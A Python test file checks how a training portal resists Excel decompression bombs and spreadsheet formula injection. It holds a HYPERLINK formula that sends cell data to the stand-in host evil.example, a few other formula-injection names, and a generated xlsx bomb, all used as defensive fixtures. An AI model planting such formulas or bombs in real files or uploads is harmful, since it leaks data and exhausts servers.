"""Issue 23.1 and 23.8: Excel bombs are refused before anything parses them, full reading runs
with time and memory limits, and every workbook the portal writes keeps formulas inert."""

import json
import pathlib
import re
from datetime import date
from io import BytesIO

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from portal import spreadsheets
from portal.accounts.idnumbers import make_id_number
from portal.accounts.models import Professional, Role
from portal.extensions import db
from portal.jobs.models import Job, JobState
from portal.providers.models import ProviderImport
from tests.exchange.test_exchange import roster
from tests.hostile import xlsx_bomb
from tests.providers.conftest import list_file

BOMB_MESSAGE = "压缩内容异常"


@pytest.fixture(scope="module")
def bomb():
    return xlsx_bomb(1_000_000, header=("姓名", "身份证号码", "培训学时", "考试结果"))


def test_the_bomb_is_small_and_its_table_huge(bomb):
    assert len(bomb) < 100_000
    with pytest.raises(Exception) as refused:
        spreadsheets.check_xlsx(bomb)
    assert BOMB_MESSAGE in refused.value.message


def test_an_ordinary_list_passes_the_zip_check():
    spreadsheets.check_xlsx(list_file([("王晓梅", "某中学", "x", "", 12, "合格")] * 2000))


def test_a_list_bomb_is_refused_in_the_request(
    app, client, auth, bomb, make_provider_user, make_plan
):
    owner = make_provider_user()
    plan = make_plan(owner)
    auth.login(owner)
    response = client.post(
        f"/providers/plans/{plan.id}/list", data={"file": (BytesIO(bomb), "名单.xlsx")}
    )
    assert response.status_code == 422 and BOMB_MESSAGE in response.text
    assert db.session.scalar(sa.select(sa.func.count(Job.id))) == 0


def test_a_courseware_bomb_is_refused_in_the_request(app, client, auth, make_provider_user):
    owner = make_provider_user()
    auth.login(owner)
    data = xlsx_bomb(1_000_000, header=("身份证号码", "姓名", "课程名称", "科目", "学习日期"))
    response = client.post("/providers/courseware", data={"file": (BytesIO(data), "记录.xlsx")})
    assert response.status_code == 422 and BOMB_MESSAGE in response.text
    assert db.session.scalar(sa.select(sa.func.count(ProviderImport.id))) == 0


def test_a_people_import_bomb_is_refused_in_the_request(app, client, auth, make_user):
    auth.login(make_user(Role.BUREAU_OFFICER))
    response = client.post(
        "/exchange/import",
        data={"file": (BytesIO(xlsx_bomb(1_000_000)), "名单.xlsx")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422 and BOMB_MESSAGE in response.text
    assert db.session.scalar(sa.select(sa.func.count(Job.id))) == 0


def test_the_command_line_refuses_a_bomb_with_exit_2(ctx, runner, tmp_path, bomb):
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(xlsx_bomb(1_000_000))
    result = runner.invoke(args=["import", "people", str(path)])
    assert result.exit_code == 2 and BOMB_MESSAGE in result.output


@pytest.mark.parametrize("limit", ["IMPORT_PARSE_MEMORY_MB", "IMPORT_PARSE_SECONDS"])
def test_full_reading_in_the_job_has_a_time_and_a_memory_limit(
    app,
    client,
    auth,
    make_provider_user,
    make_plan,
    make_unit,
    make_professional,
    limit,
    monkeypatch,
):
    """The header peek passes in the request; the job's full read runs in a child process that
    is stopped at the limit (0 seconds; or 64 MB, which a parse needing 256 MB exceeds), and
    the job says why."""
    owner = make_provider_user()
    plan = make_plan(owner)
    person = make_professional(unit=make_unit())
    auth.login(owner)
    app.config[limit] = 0
    if limit == "IMPORT_PARSE_MEMORY_MB":
        app.config[limit] = 64
        parse = spreadsheets._rows

        def greedy(*args):
            ballast = bytearray(256 * 1024 * 1024)  # noqa: F841 (held while parsing)
            return parse(*args)

        monkeypatch.setattr(spreadsheets, "_rows", greedy)
    content = list_file([(person.name, "某中学", person.id_number, "", 12, "合格")])
    response = client.post(
        f"/providers/plans/{plan.id}/list", data={"file": (BytesIO(content), "名单.xlsx")}
    )
    assert response.status_code == 303
    job = db.session.scalar(sa.select(Job))
    assert job.state is JobState.FAILED
    assert "超出了时间" in job.message and "内存" in job.message


def test_reading_under_the_limits_gives_every_row():
    content = list_file([(f"人{i}", "某中学", "x", "", 12, "合格") for i in range(300)])
    rows = spreadsheets.read_rows(content, 10_000)
    assert len(rows) == 306 and rows[5][1] == "人0" and rows[-2][1] == "人299"


# --- 23.8: formulas stay text ----------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"点击")'


def test_the_statistics_export_writes_a_formula_named_unit_as_text(
    ctx, client, auth, make_unit, make_professional, make_user
):
    unit = make_unit(name=HOSTILE)
    make_professional(unit=unit, name="+SUM(1,2)")
    auth.login(make_user(Role.BUREAU_OFFICER))
    response = client.get(f"/stats/export.xlsx?year={date.today().year}")
    cells = [
        cell
        for sheet in load_workbook(BytesIO(response.data)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)


def test_the_exchange_export_writes_formula_names_as_text(
    ctx, runner, tmp_path, make_unit, make_professional, make_registered_declaration
):
    person = make_professional(unit=make_unit(name="@SUM(A1)"), name=HOSTILE)
    make_registered_declaration(person, 2025)
    db.session.commit()
    out = tmp_path / "2025.xlsx"
    result = runner.invoke(args=["export", "year", "2025", "--format", "xlsx", "--out", str(out)])
    assert result.exit_code == 0, result.output
    row = next(load_workbook(out).active.iter_rows(min_row=2))
    assert row[0].value == "'" + HOSTILE and row[0].data_type == "s"
    assert row[2].value == "'@SUM(A1)"


# " =1+1": a cell typed "=1+1" is a formula to openpyxl too; with a space it stays text
@pytest.mark.parametrize("name", [" =1+1", "+SUM(1,2)", "-2+3", "@SUM(A1)"])
def test_the_people_import_refuses_formula_names(ctx, runner, tmp_path, name):
    number = make_id_number(date(1985, 3, 4), 21)
    path = tmp_path / "roster.xlsx"
    path.write_bytes(roster([[name, number, "", "", "", "", "", ""]]))
    result = runner.invoke(args=["import", "people", str(path)])
    summary = json.loads(result.output)
    assert [e["row"] for e in summary["errors"]] == [2]
    assert "公式" in summary["errors"][0]["message"]
    assert (
        db.session.scalar(sa.select(Professional).where(Professional.id_number == number)) is None
    )


def test_every_workbook_writer_goes_through_the_safe_cell_helper():
    """A module that builds a workbook (or a CSV) imports the one helper from
    portal/spreadsheets.py and has no formula check of its own."""
    root = pathlib.Path(spreadsheets.__file__).parent
    writers = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name == "spreadsheets.py":
            continue
        if re.search(r"\bWorkbook\(|csv\.writer\(", text):
            writers.append(path.relative_to(root).as_posix())
            assert re.search(r"from portal\.spreadsheets import .*safe_(cell|row)", text), path
        assert '("=", "+", "-", "@"' not in text, path
    assert {"stats/tables.py", "exchange/service.py", "providers/lists.py"} <= set(writers)
